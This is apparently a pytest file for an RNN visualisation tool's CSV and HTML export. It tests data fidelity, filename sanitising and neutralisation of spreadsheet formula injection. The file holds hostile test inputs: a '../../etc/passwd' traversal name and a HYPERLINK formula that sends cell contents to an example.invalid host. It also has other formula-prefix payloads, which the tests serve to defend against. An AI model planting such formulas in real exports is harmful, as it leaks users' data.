"""rnnviz.export: CSV tables read back equal the Trace; HTML figures are standalone."""
import copy
import io

import numpy as np
import pandas as pd
import plotly.graph_objects as go
import pytest
import torch

from rnnviz.conventions import IGNORE
from rnnviz.engine.trace import trace
from rnnviz.store.catalog import load_builtin
from rnnviz.store.export import TABLES, csv_bytes, figure_html, safe_filename, trace_frame
from rnnviz.text.corpora import lm_pair
from rnnviz.text.tokenize import prepare


@pytest.fixture(scope="module", params=["notes", "default", "subword"])
def traced(request):
    model, vocab, _ = load_builtin(request.param)
    inp, tgt = lm_pair(list(prepare("I like cats", vocab).ids), vocab)
    return trace(model, inp, tgt), vocab


def read_back(df: pd.DataFrame) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(csv_bytes(df)), keep_default_na=False, na_values=[""])


def test_token_csv_equals_the_trace(traced):
    tr, vocab = traced
    df = read_back(trace_frame(tr, vocab, "tokens"))
    assert list(df["t"]) == list(range(1, tr.T + 1))
    assert list(df["token"]) == vocab.decode(tr.ids) and list(df["id"]) == tr.ids.tolist()
    np.testing.assert_array_equal(df["loss_t"].to_numpy(), tr.loss_t.double().numpy())
    for t in range(tr.T):
        assert df["guess"][t] == vocab.itos[int(tr.p[t].argmax())]
        assert df["p_guess"][t] == float(tr.p[t].max())
        target = int(tr.targets[t])
        if target == IGNORE:
            assert np.isnan(df["p_target"][t]) and df["loss_t"][t] == 0
        else:
            assert df["target"][t] == vocab.itos[target]
            assert df["p_target"][t] == float(tr.p[t, target])
            assert df["loss_t"][t] == pytest.approx(-np.log(df["p_target"][t]), rel=1e-5)


@pytest.mark.parametrize("name", [n for n in TABLES if n != "tokens"])
def test_matrix_csv_equals_the_trace(traced, name):
    tr, vocab = traced
    df = read_back(trace_frame(tr, vocab, name))
    values = df.drop(columns=["t", "token"]).to_numpy()
    np.testing.assert_array_equal(values, getattr(tr, name).double().numpy())
    if name == "p":
        assert list(df.columns[2:]) == [f"p[{tok}]" for tok in vocab.itos]


def test_gradient_csv_rebuilds_every_parameter_gradient(traced):
    tr, vocab = traced
    df = read_back(trace_frame(tr, vocab, "grads"))
    assert set(df["parameter"]) == set(tr.grads)
    for name, g in tr.grads.items():
        part = df[df["parameter"] == name]
        rebuilt = np.zeros((part["row"].max(), part["col"].max()))
        rebuilt[part["row"] - 1, part["col"] - 1] = part["value"]
        np.testing.assert_array_equal(rebuilt.reshape(g.shape), g.double().numpy())


def test_nan_and_inf_survive_the_csv():
    model, vocab, _ = load_builtin("notes")
    model = copy.deepcopy(model)
    with torch.no_grad():
        model.W_x[0, 0] = float("inf")
    tr = trace(model, [0, 1, 2])
    df = read_back(trace_frame(tr, vocab, "a"))
    np.testing.assert_array_equal(df.drop(columns=["t", "token"]).to_numpy(), tr.a.double().numpy())


def test_unknown_table_is_an_error(traced):
    with pytest.raises(ValueError):
        trace_frame(traced[0], traced[1], "secrets")


def test_figure_html_is_standalone():
    fig = go.Figure(go.Scatter(x=[1, 2], y=[3, 4]), layout={"title": {"text": "My <b>chart</b>"}})
    html = figure_html(fig).decode("utf-8")
    assert html.lower().startswith("<!doctype html>") and html.rstrip().endswith("</html>")
    assert 'src="http' not in html  # nothing fetched from a network: plotly.js is inside
    assert len(html) > 1_000_000
    # the figure's data, with the title's HTML characters escaped inside the JSON
    assert '"text":"My \\u003cb\\u003echart\\u003c\\u002fb\\u003e"' in html
    assert '"x":[1,2],"y":[3,4]' in html


@pytest.mark.parametrize("name, expected", [
    ("Hidden states h_t", "hidden-states-h_t.csv"), ("../../etc/passwd", "etc-passwd.csv"),
    ("", "export.csv"), ("<script>", "script.csv"), ("猫", "猫.csv")])
def test_safe_filenames(name, expected):
    assert safe_filename(name, "csv") == expected


HOSTILE_TOKENS = ('=HYPERLINK("https://example.invalid/?leak="&A1,"click")', "+1+2", "-2+3",
                  "@SUM(A1)", "\tcmd", "\rcmd", "猫", "正常")


@pytest.fixture(scope="module")
def hostile_trace():
    from rnnviz.engine.model import RNNConfig, RNNModel
    from rnnviz.text.tokenize import Vocab
    vocab = Vocab(("<pad>", "<unk>", "<bos>", "<eos>") + HOSTILE_TOKENS)
    torch.manual_seed(0)
    model = RNNModel(RNNConfig(vocab_size=len(vocab), embed_dim=3, hidden_size=4))
    return trace(model, list(range(4, len(vocab)))), vocab


def test_formula_cells_are_neutralised_in_every_csv(hostile_trace):
    tr, vocab = hostile_trace
    for table in (*TABLES, "grads"):
        raw = csv_bytes(trace_frame(tr, vocab, table))
        df = pd.read_csv(io.BytesIO(raw), encoding="utf-8-sig", keep_default_na=False,
                         na_values=[""], dtype=str)
        text_cols = [c for c in ("token", "target", "guess", "parameter") if c in df.columns]
        for col in text_cols:
            for cell in df[col]:
                assert not str(cell).startswith(("=", "+", "-", "@", "\t", "\r")), (table, cell)
        if table == "tokens":
            assert list(df["token"]) == ["'" + t if t[0] in "=+-@\t\r" else t
                                         for t in HOSTILE_TOKENS]


def test_numbers_stay_numbers_and_negative_values_are_untouched(hostile_trace):
    tr, vocab = hostile_trace
    df = pd.read_csv(io.BytesIO(csv_bytes(trace_frame(tr, vocab, "h"))), encoding="utf-8-sig")
    np.testing.assert_array_equal(df.drop(columns=["t", "token"]).to_numpy(), tr.h.double().numpy())
    assert (tr.h < 0).any()  # the control: there are negative numbers, and they came back as such


def test_csv_has_a_bom_and_chinese_survives_a_spreadsheet_style_read(hostile_trace):
    tr, vocab = hostile_trace
    raw = csv_bytes(trace_frame(tr, vocab, "tokens"))
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert "猫" in text and "正常" in text
